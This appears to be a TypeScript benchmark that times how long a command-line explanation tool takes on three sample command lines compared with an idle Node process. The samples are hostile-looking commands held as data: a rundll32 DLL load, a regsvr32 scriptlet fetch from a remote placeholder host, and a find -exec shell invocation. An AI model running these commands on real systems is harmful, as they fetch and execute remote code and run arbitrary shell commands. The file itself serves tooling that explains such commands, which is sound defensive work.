import type { Bench } from "./support/bench.ts";
import { contest, measure } from "./support/measure.ts";

/** One of each kind: what a line costs to explain is little beside what starting costs. */
const LINES = [
  "rundll32.exe C:\\ProgramData\\u.dat,#1",
  "cmd.exe /c start /b regsvr32 /s /i:http://example.net/a.sct scrobj.dll",
  "find / -name '*.log' -exec sh -c 'id > /tmp/x' ;",
];
/** A process is over so soon that the cheapest of a few is still a matter of luck. */
const LEAST_RUNS = 10;

/** `whatran explain` against a Node that does nothing: CPU of whole processes. */
export const explain: Bench = {
  name: "explain",
  title: "explaining one command line, whole processes",
  async run({ runs, cli }, say) {
    const node = process.execPath;
    const { empty, explained } = contest(Math.max(runs, LEAST_RUNS), {
      empty: () => measure([node, "-e", "0"]),
      explained: () => {
        const costs = LINES.map((line) => measure([node, cli, "explain", "--format", "json", line]));
        return { cpu: Math.max(...costs.map(({ cpu }) => cpu)), wall: Math.max(...costs.map(({ wall }) => wall)) };
      },
    });
    say(
      `  the dearest of ${LINES.length} lines: ${(explained.cpu * 1000).toFixed(0)} ms; node -e 0: ${(empty.cpu * 1000).toFixed(0)} ms`,
    );
    const over = (explained.cpu - empty.cpu) * 1000;
    return [{ name: "explain over node -e 0", value: over, reference: 1, unit: "ms", goal: 60 }];
  },
};
